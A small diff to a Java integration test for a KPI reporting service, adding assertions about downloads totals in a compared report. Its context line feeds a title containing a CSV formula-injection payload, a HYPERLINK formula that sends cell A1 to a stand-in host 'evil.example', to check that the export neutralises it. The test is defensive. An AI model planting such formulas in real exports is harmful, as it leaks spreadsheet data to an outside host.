@@ -371,6 +371,8 @@ class KpiIT implements OperationalEndpointsContract {
                 .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
         assertThat(compared).contains("WORKSHOP;1;1;2;-50").contains("TOTAL;1;1;2;-50");
         assertThat(comparedReport).contains("id=\"before-trainings\">2<").containsPattern("id=\"change-trainings\">-50,0\\s?%<");
+        assertThat(comparedReport).as("the downloads' totals beside the previous period's: none in either")
+                .contains("id=\"before-downloads-total\">0<").contains("id=\"change-downloads-total\">–<");
 
         // A title typed as a formula is text in the CSV export, not something a spreadsheet runs.
         Events.send(Events.projectPublished(network, "f-" + network, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"));
